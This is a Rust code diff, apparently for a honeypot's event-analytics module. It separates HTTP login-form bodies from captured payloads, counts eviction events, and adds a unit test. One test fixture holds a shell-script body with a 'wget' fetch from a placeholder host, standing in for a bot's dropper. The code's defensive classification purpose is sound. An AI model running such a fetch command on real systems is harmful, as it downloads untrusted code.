@@ -2,16 +2,36 @@
 //! a JSON object of flat key/value fields ([`Detail::to_fields`]), with the fields every report
 //! needs lifted into columns: `username`, `password`, `payload_sha256`, `url`.
 //!
-//! `count` is 1 for ordinary events and the number of connections for rollup events, so
-//! `SUM(count)` counts connections; `session_id` lets reports count each session once. This is
+//! `count` is 1 for ordinary events, the number of connections for rollup events (so
+//! `SUM(count)` counts connections) and the number of events evicted for an eviction gap; `session_id` lets reports count each session once. This is
 //! the contract between ingest (which writes) and analytics, the dashboard and exports (which
 //! read); a backend that bulk-loads (COPY) writes exactly these values.
 
 use drosera_uplink::event::{Detail, Event, Secret};
 
+/// The kind stored for an HTTP login form's body: the sensor records it as a payload, but it is
+/// not a captured file, so it is kept (and exported) under its own kind and never listed or
+/// counted as a payload.
+pub const FORM_BODY_KIND: &str = "form_body";
+
+/// True for a payload that is an HTTP `application/x-www-form-urlencoded` body (a login form's
+/// POST): the whole body is in the prefix and it is nothing but `key=value&...` in the
+/// URL-encoded alphabet. (The sensor keeps real uploads as samples as well; a form is never one.)
+pub fn is_form_body(ev: &Event) -> bool {
+    let Detail::Payload { prefix, size, truncated, .. } = &ev.detail else { return false };
+    ev.protocol == drosera_uplink::Protocol::Http
+        && !*truncated
+        && !prefix.is_empty()
+        && *size == prefix.len() as u64
+        && prefix.contains(&b'=')
+        && prefix.iter().all(|b| b.is_ascii_alphanumeric() || b"%+&=._-*~".contains(b))
+}
+
 /// The lifted columns of one event.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Lifted {
+    /// The `kind` column: [`Detail::kind`], except [`FORM_BODY_KIND`] (see [`is_form_body`]).
+    pub kind: &'static str,
     pub count: i64,
     pub username: Option<String>,
     pub password: Option<String>,
@@ -24,6 +44,7 @@ pub struct Lifted {
 impl Lifted {
     pub fn of(ev: &Event) -> Lifted {
         let mut l = Lifted {
+            kind: if is_form_body(ev) { FORM_BODY_KIND } else { ev.detail.kind() },
             count: 1,
             username: None,
             password: None,
@@ -41,9 +62,13 @@ impl Lifted {
                     Secret::None => None,
                 };
             }
-            Detail::Payload { sha256, .. } => l.payload_sha256 = Some(hex::encode(sha256)),
+            Detail::Payload { sha256, .. } if l.kind == "payload" => l.payload_sha256 = Some(hex::encode(sha256)),
             Detail::DownloadOffered { url: u, .. } => l.url = Some(u.clone()),
             Detail::Rollup { connections, .. } => l.count = (*connections).min(i64::MAX as u64) as i64,
+            // A gap stands for the events it evicted.
+            Detail::EvictionGap { count, .. } | Detail::EvictionSummary { count, .. } => {
+                l.count = (*count).min(i64::MAX as u64) as i64
+            }
             _ => {}
         }
         l
@@ -86,7 +111,9 @@ pub struct Tally {
 impl Tally {
     pub fn add(&mut self, ev: &Event) {
         match &ev.detail {
-            Detail::EvictionGap { count, .. } => self.evicted = self.evicted.saturating_add(*count as i64),
+            Detail::EvictionGap { count, .. } | Detail::EvictionSummary { count, .. } => {
+                self.evicted = self.evicted.saturating_add(*count as i64)
+            }
             Detail::Rollup { connections, .. } => self.shed = self.shed.saturating_add(*connections as i64),
             Detail::Health(h) => self.health = serde_json::to_string(h).ok(),
             _ => {}
@@ -97,6 +124,34 @@ impl Tally {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_login_forms_body_is_no_payload() {
+        let payload = |proto, body: &[u8], truncated| Event {
+            protocol: proto,
+            ..Event::internal(Detail::Payload {
+                sha256: [0; 32],
+                size: body.len() as u64,
+                name: "/login.cgi".into(),
+                prefix: body.to_vec(),
+                truncated,
+            })
+        };
+        use drosera_uplink::Protocol::{Ftp, Http};
+        let form = b"username=root&password=p%40ss+word";
+        assert_eq!(Lifted::of(&payload(Http, form, false)).kind, FORM_BODY_KIND);
+        assert_eq!(Lifted::of(&payload(Http, form, false)).payload_sha256, None);
+        for (proto, body, cut) in [
+            (Http, &b"#!/bin/sh\nwget http://x/y"[..], false),
+            (Http, &b"a=1&b=2"[..], true),
+            (Ftp, &form[..], false),
+            (Http, &b"{\"a\": 1}"[..], false),
+        ] {
+            let l = Lifted::of(&payload(proto, body, cut));
+            assert_eq!(l.kind, "payload", "{proto:?} {body:?}");
+            assert!(l.payload_sha256.is_some());
+        }
+    }
 
     #[test]
     fn fields_json_matches_a_serde_json_object() {
